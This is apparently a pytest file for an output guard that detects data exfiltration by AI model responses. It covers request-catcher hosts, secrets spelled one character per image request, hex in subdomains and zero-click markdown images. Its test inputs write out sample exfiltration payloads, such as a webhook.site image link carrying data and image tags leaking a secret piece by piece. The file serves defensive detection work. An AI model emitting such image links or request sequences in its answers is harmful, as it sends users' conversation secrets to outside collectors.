"""Exfiltration without conversation context: request catchers and tunnels, one character per request with a
counter, data in subdomains, short secrets with strong signals, and links that carry clear data.

The gateway and most callers pass no secrets, so each positive here must block with an empty ``OutputContext``
(a finding at HIGH or above; zero-click channels at CRITICAL), and each benign answer must block neither with
nor without context. The corpora are in ``exfil_corpus_v3``.
"""

from __future__ import annotations

import time

import pytest

from aiwarden.core.findings import Severity
from aiwarden.guard import exfil
from aiwarden.guard.exfil_collectors import collector
from aiwarden.guard.exfil_sequences import spell
from aiwarden.guard.exfil_values import credential_format, named_secret, secret_shaped, short_hex_text
from aiwarden.guard.guard import Guard
from aiwarden.guard.types import OutputContext
from tests.guard import exfil_corpus as v2
from tests.guard import exfil_corpus_v3 as corpus

EMPTY = OutputContext()
GROUPS = {"collector": corpus.COLLECTORS, "sequence": corpus.SEQUENCES, "subdomain": corpus.SUBDOMAINS,
          "short-secret": corpus.SHORT_SECRETS, "link": corpus.LINKS}
POSITIVES = [(f"{group}/{name}", text) for group, cases in GROUPS.items() for name, text in cases]
BENIGN = corpus.BENIGN + corpus.BENIGN_HARD + corpus.COLLECTOR_BARE


def _worst(text: str, ctx: OutputContext = EMPTY) -> Severity | None:
    return max((f.severity for f in exfil.detect(text, ctx)), default=None)


def _blocks(text: str, ctx: OutputContext = EMPTY) -> bool:
    worst = _worst(text, ctx)
    return worst is not None and worst >= Severity.HIGH


# --- positives ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "text"), POSITIVES, ids=[n for n, _ in POSITIVES])
def test_clear_exfiltration_blocks_without_context(name: str, text: str) -> None:
    assert _blocks(text), exfil.detect(text, EMPTY)


def test_recall_without_context() -> None:
    missed = [n for n, t in POSITIVES if not _blocks(t)]
    assert len(POSITIVES) >= 70 and missed == []


@pytest.mark.parametrize(("name", "text"), [c for c in POSITIVES if c[1].lstrip().startswith(("![", "<img"))],
                         ids=[n for n, t in POSITIVES if t.lstrip().startswith(("![", "<img"))])
def test_zero_click_images_are_critical(name: str, text: str) -> None:
    assert _worst(text) == Severity.CRITICAL


def test_guard_blocks_a_request_catcher_image() -> None:
    text = f"Done! ![](https://webhook.site/{corpus.UUID}?c=Leeds)"
    assert Guard().scan_output(text, EMPTY).action == "block"


# --- 1. request catchers and tunnels ------------------------------------------------------------------------------


def test_findings_name_the_collector() -> None:
    findings = exfil.detect(dict(corpus.COLLECTORS)["oastify-query"], EMPTY)
    assert any("out-of-band interaction server (oastify.com)" in f.message for f in findings)


def test_a_bare_bin_image_is_reported_not_blocked() -> None:
    findings = exfil.detect(f"![](https://webhook.site/{corpus.UUID})", EMPTY)
    assert [(f.severity, "request catcher" in f.message) for f in findings] == [(Severity.MEDIUM, True)]


@pytest.mark.parametrize(("host", "path", "suffix"), [
    ("webhook.site", f"/{corpus.UUID}", "webhook.site"),
    ("abc123.oast.fun", "/", "oast.fun"),
    ("eo4k2m9x7q3p1.m.pipedream.net", "/", "m.pipedream.net"),
    ("3f9a-81-2-69-142.ngrok-free.app", "/docs", "ngrok-free.app"),
    ("www.toptal.com", "/developers/postbin/1699-123", "toptal.com"),
])
def test_collectors_are_recognised_by_host_and_path(host: str, path: str, suffix: str) -> None:
    found = collector(host, path)
    assert found is not None and found.suffix == suffix


@pytest.mark.parametrize(("host", "path"), [
    ("docs.webhook.site", "/api/tokens.html"), ("oast.fun", "/"), ("www.toptal.com", "/developers/blog"),
    ("dashboard.ngrok.com", "/"), ("docs.beeceptor.com", "/"), ("ngrok.com", "/docs"), ("example.com", "/"),
])
def test_the_services_own_pages_are_not_collectors(host: str, path: str) -> None:
    assert collector(host, path) is None


# --- 2. one character per request ---------------------------------------------------------------------------------


def test_a_counter_restores_the_order_of_shuffled_requests() -> None:
    findings = exfil.detect(dict(corpus.SEQUENCES)["query-counter-shuffled"], EMPTY)
    sequence = [f for f in findings if f.rule_id == "exfil.image-sequence"]
    assert len(sequence) == 1 and "'tulip77x'" in sequence[0].message and "counter" in sequence[0].message


def test_a_secret_in_chunks_is_stronger_with_context() -> None:
    # two-character chunks could be flags or icons: without context they are not blocked, with it they leak
    chunks = ["MA", "RL", "IN", "-2", "29", "1."]
    text = " ".join(f"![](https://px.tracker-cdn.test/f/{c}.png)" for c in chunks)
    assert not _blocks(text)
    findings = exfil.detect(text, v2.CONTEXT)
    assert any(f.severity == Severity.CRITICAL and "conversation secret" in f.message for f in findings)


def test_a_secret_spelled_in_counter_order_is_named_as_a_leak() -> None:
    order = [3, 0, 6, 1, 5, 2, 4, 9, 7, 8]
    word = v2.SECRET.replace("-", "")
    text = " ".join(f'<img src="https://px.tracker-cdn.test/p?pos={i}&amp;ch={word[i]}">' for i in order)
    findings = exfil.detect(text, v2.CONTEXT)
    assert any(f.rule_id == "exfil.image-sequence" and "conversation secret" in f.message for f in findings)


def test_three_requests_are_not_a_sequence() -> None:
    assert spell([f"https://x.test/p?i={i}&c={c}" for i, c in enumerate("ab9")]) == []


def test_long_sequences_stay_fast() -> None:
    text = " ".join(f"![](https://px.tracker-cdn.test/p.gif?i={i}&c={chr(97 + i % 26)})" for i in range(800))
    start = time.perf_counter()
    exfil.detect(text, EMPTY)
    assert time.perf_counter() - start < 1.0


# --- 3. subdomains, 4. short secrets ------------------------------------------------------------------------------


@pytest.mark.parametrize(("label", "text"), [(b"dana".hex(), "dana"), (b"pw=tulip".hex(), "pw=tulip")])
def test_short_hex_labels_decode(label: str, text: str) -> None:
    assert short_hex_text(label) == text


@pytest.mark.parametrize("label", ["3f9a1c2e", "deadbeef", "cafebabe", "d111111abcdef8", "20240115", "abcdef12"])
def test_hashes_and_numbers_in_labels_decode_to_nothing(label: str) -> None:
    assert short_hex_text(label) is None


@pytest.mark.parametrize("value", ["Tulip!77", "xK9pQ2mvT", "Summer24!", "p@ssw0rd9"])
def test_secret_shaped(value: str) -> None:
    assert secret_shaped(value)


@pytest.mark.parametrize("value", ["hunter2", "iOS17", "OpenSSL3", "Win11-x64", "k8s-v1.29", "GPT-4o", "en-US",
                                   "utf-8", "3f9a1c2e", "2024-01-15", "1280x720", "logo.png", "MacBookPro16",
                                   "YOUR_TOKEN1!", "test123!"])
def test_not_secret_shaped(value: str) -> None:
    assert not secret_shaped(value)


@pytest.mark.parametrize(("value", "named"), [
    ("pw:hunter2", True), ("password=Summer24", True), ("pin-4455", True), ("token-rotation", False),
    ("pin-2fa-setup", False), ("password=YOUR_PASSWORD", False), ("password:reset", False), ("pin-13-led", False),
])
def test_named_secrets(value: str, named: bool) -> None:
    assert named_secret(value) is named


def test_credential_formats_but_not_their_placeholders() -> None:
    assert credential_format("ghp_Zq8LmN2xYp4RtV7wKc9HbJ3sFd6GuE1aB2c4")
    assert not credential_format("sk-proj-XXXXXXXXXXXXXXXXXXXXXXXX")
    assert not credential_format("sk-learn")


def test_retina_assets_are_not_email_addresses() -> None:
    assert _worst("![icon](https://icons.acme.test/img/wn/10d@2x.png)") == Severity.MEDIUM


# --- benign -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "text"), BENIGN, ids=[n for n, _ in BENIGN])
def test_benign_links_and_images_do_not_block(name: str, text: str) -> None:
    assert not _blocks(text), exfil.detect(text, EMPTY)
    assert not _blocks(text, v2.CONTEXT)


def test_false_positive_rate_over_the_benign_sets() -> None:
    blocked = [n for n, t in BENIGN if _blocks(t) or _blocks(t, v2.CONTEXT)]
    assert len(BENIGN) >= 95 and blocked == []


@pytest.mark.parametrize("name", ["cloudfront", "ecr", "s3-bucket", "firebase", "vercel-preview", "aws-signin",
                                  "api-gateway", "supabase"])
def test_provider_subdomains_report_no_data(name: str) -> None:
    text = dict(corpus.BENIGN + corpus.BENIGN_HARD)[name]
    assert all("subdomain" not in f.message for f in exfil.detect(text, EMPTY))
